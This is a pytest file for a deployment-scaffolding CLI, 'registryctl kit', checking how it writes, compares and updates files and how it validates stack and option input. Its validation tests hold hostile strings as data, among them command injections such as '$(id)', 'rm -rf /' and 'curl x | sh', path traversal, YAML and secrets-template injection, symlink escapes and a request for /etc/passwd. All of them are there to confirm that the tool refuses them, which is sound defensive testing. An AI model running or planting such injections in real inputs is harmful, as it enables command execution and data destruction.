"""`registryctl kit`: what is missing is written, what the kit owns is updated, the rest is kept."""

import json
import re

import pytest

from operations.kit import header
from operations.kit.compare import compare
from operations.kit.header import take_header
from tests.operations.kit.given import by_environment, outputs, run, write_stacks

IGNORED = ".dockerignore"


@pytest.fixture
def stacks(tmp_path):
    folder = tmp_path / "stacks"
    folder.mkdir()
    return write_stacks(folder)


@pytest.fixture
def service(tmp_path):
    folder = tmp_path / "service"
    folder.mkdir()
    return folder


def snapshot(folder):
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file()
    }


def test_the_first_run_writes_and_the_second_finds_everything_in_step(service, stacks):
    first = run(service, stacks)
    assert first.exit_code == 0, first.output
    written = snapshot(service)
    assert f"written     {IGNORED}" in first.output
    second = run(service, stacks)
    assert (second.exit_code, snapshot(service)) == (0, written)
    assert "written" not in second.output


def test_check_writes_nothing_and_says_that_something_is_missing(service, stacks):
    result = run(service, stacks, "--check")
    assert result.exit_code == 1
    assert f"missing     {IGNORED}" in result.output
    assert snapshot(service) == {}


def older(text):
    """What an older kit wrote: another text, with the header of its own time."""
    body = "# an older kit\n"
    return header.with_header(body).replace(f"kit {header.VERSION}", "kit 0.0.1")


def test_what_an_older_kit_wrote_is_shown_and_only_updated_when_asked(service, stacks):
    run(service, stacks)
    new = (service / IGNORED).read_text()
    (service / IGNORED).write_text(older(new))
    shown = run(service, stacks)
    assert shown.exit_code == 1
    assert f"outdated    {IGNORED} (by 0.0.1)" in shown.output
    assert "-# an older kit" in shown.output
    assert "+**/.git" in shown.output
    assert (service / IGNORED).read_text() == older(new)
    updated = run(service, stacks, "--write")
    assert updated.exit_code == 0
    assert f"written     {IGNORED} (by 0.0.1)" in updated.output
    assert (service / IGNORED).read_text() == new


def test_an_edited_file_is_kept_and_told_even_with_write(service, stacks):
    run(service, stacks)
    edited = (service / IGNORED).read_text() + "**/private\n"
    (service / IGNORED).write_text(edited)
    for words in ((), ("--write",)):
        result = run(service, stacks, *words)
        assert result.exit_code == 1
        assert f"edited      {IGNORED}" in result.output
        assert "-**/private" in result.output
        assert (service / IGNORED).read_text() == edited
    assert run(service, stacks, "--skip", IGNORED).exit_code == 0
    taken = run(service, stacks, "--take", IGNORED)
    assert taken.exit_code == 0
    assert "**/private" not in (service / IGNORED).read_text()


def states(result):
    return {
        one["path"]: (one["state"], one["written"]) for one in json.loads(result.stdout)["files"]
    }


def test_programs_get_each_file_how_it_stood_and_whether_it_was_written(service, stacks):
    first = run(service, stacks, "--json")
    assert set(states(first).values()) == {("missing", True)}
    assert f"written     {IGNORED}" in first.stderr
    assert set(states(run(service, stacks, "--json")).values()) == {("in step", False)}
    (service / IGNORED).write_text(older((service / IGNORED).read_text()))
    outdated = run(service, stacks, "--json", "--check")
    assert outdated.exit_code == 1
    assert states(outdated)[IGNORED] == ("outdated", False)
    (told,) = (one for one in json.loads(outdated.stdout)["files"] if one["path"] == IGNORED)
    assert told["writtenBy"] == "0.0.1"
    assert "-# an older kit" in told["diff"]
    assert states(run(service, stacks, "--json", "--write"))[IGNORED] == ("outdated", True)


def test_a_file_that_the_kit_never_wrote_is_kept(service, stacks):
    (service / IGNORED).write_text("node_modules\n")
    result = run(service, stacks, "--write")
    assert result.exit_code == 1
    assert f"yours       {IGNORED}" in result.output
    assert (service / IGNORED).read_text() == "node_modules\n"


def test_a_header_names_the_digest_of_what_follows_wherever_it_stands():
    for body in ("#!/usr/bin/env bash\nset -e\n", "# syntax=docker/dockerfile:1\nFROM x\n", "a\n"):
        text = header.with_header(body)
        assert text.startswith(body.partition("\n")[0]) == body.startswith("#")
        assert take_header(text) == (header.VERSION, body, True)
        assert take_header(text + "more\n")[2] is False


@pytest.mark.parametrize(
    "service_name",
    ["../outside", "a b", "feed-server; rm -rf /", "$(id)", "FEED", "no-such", "'", '"', "a\nb"],
)
def test_a_name_that_no_stack_has_ends_in_wrong_use(service, stacks, service_name):
    result = run(service, stacks, service=service_name)
    assert result.exit_code == 2
    assert "it has no service" in result.output
    assert "Fix:" in result.output
    assert snapshot(service) == {}


HOSTILE = [
    ("registryUrl", 'evil"; curl x | sh #'),
    ("registryUrl", "host/../.."),
    ("delivery.account", "1' OR"),
    ("delivery.environment", "../../etc"),
    ("delivery.region", "eu-west-1\n- evil"),
    ("delivery.partition", "aws$(id)"),
    ("delivery.ci", {"environment": "a\nb: ${{ secrets.X }}"}),
    ("delivery.services.feed-server.github", "a/b'; rm -rf /"),
    ("delivery.tagScheme.deployed.patterns", ["dev-`id`*"]),
    ("repositories.feed-server.name", "../feed"),
    ("repositories.feed-server.ciRoleArn", "arn:aws:iam::1:role/$(id)"),
    ("repositories.feed-server.ciRoleArn", None),
]


@pytest.mark.parametrize(("path", "value"), HOSTILE, ids=[f"{p} {v!r:.20}" for p, v in HOSTILE])
def test_a_stack_with_a_hostile_value_is_refused_before_anything_is_written(
    tmp_path, service, path, value
):
    told = outputs("dev")
    *above, last = path.split(".")
    inner = told
    for step in above:
        inner = inner[step]
    inner[last] = value
    file = tmp_path / "hostile.json"
    file.write_text(json.dumps(told))
    result = run(service, [str(file)])
    assert result.exit_code == 2, result.output
    assert "Impact:" in result.output
    assert "Fix:" in result.output
    assert snapshot(service) == {}


def test_every_problem_of_every_stack_is_told_at_once(tmp_path, service):
    (tmp_path / "a.json").write_text("[]")
    (tmp_path / "b.json").write_text('{"registryUrl": "x", "repositories": {}}')
    result = run(service, [str(tmp_path / "a.json"), str(tmp_path / "b.json")])
    assert result.exit_code == 2
    assert re.findall(r"(\w)\.json: it has no `(\w+)`", result.output) == [
        ("a", "registryUrl"),
        ("a", "repositories"),
        ("a", "delivery"),
        ("b", "delivery"),
    ]


def test_two_stacks_of_one_environment_are_refused(service, stacks):
    result = run(service, [stacks[0], stacks[0]])
    assert result.exit_code == 2
    assert "more than one stack is the environment 'dev'" in result.output


def test_the_role_of_the_stack_serves_no_gitlab(service, stacks):
    result = run(service, stacks, "--flavour", "gitlab")
    assert result.exit_code == 2
    assert result.output.count("trusts GitHub alone") == 3


def test_a_symbolic_link_is_not_written_through(tmp_path, service, stacks):
    (tmp_path / "victim").write_text("kept")
    (service / IGNORED).symlink_to(tmp_path / "victim")
    result = run(service, stacks, "--write", "--take", IGNORED)
    assert result.exit_code == 2
    assert "is a symbolic link" in result.output
    assert (tmp_path / "victim").read_text() == "kept"


def test_a_folder_that_leads_outside_is_not_written_through(tmp_path, service):
    from operations.kit.part import Ownership
    from operations.kit.render import Rendered

    outside = tmp_path / "outside"
    outside.mkdir()
    (service / "deploy").symlink_to(outside)
    for path in ("deploy/x.yaml", "../outside/x.yaml"):
        with pytest.raises(Exception, match=r"symbolic link|outside of"):
            compare([Rendered(path, "x", Ownership.KIT)], service, ())
    assert list(outside.iterdir()) == []


def test_environments_of_github_are_read_from_the_stack(tmp_path):
    from tests.operations.kit.given import facts

    known = facts(tmp_path, by_environment)
    assert [each.github_environment for each in known.environments] == [
        "development",
        "staging",
        "production",
    ]
    assert [each.branches for each in facts(tmp_path).environments] == [
        ("main", "develop"),
        ("main",),
        (),
    ]


@pytest.mark.parametrize(
    "words",
    [
        ("--health", "/x y"),
        ("--health", "health"),
        ("--cache", "../x"),
        ("--project", "a"),
        ("--project", "a/b;c"),
        ("--role", "dev"),
        ("--role", "other=arn:aws:iam::111111111111:role/x"),
        ("--port", "80"),
        ("--take", "/etc/passwd"),
        ("--check", "--write"),
        ("--app", "cobol"),
    ],
)
def test_a_wrong_option_ends_in_wrong_use(service, stacks, words):
    result = run(service, stacks, *words)
    assert result.exit_code == 2, result.output
    assert snapshot(service) == {}
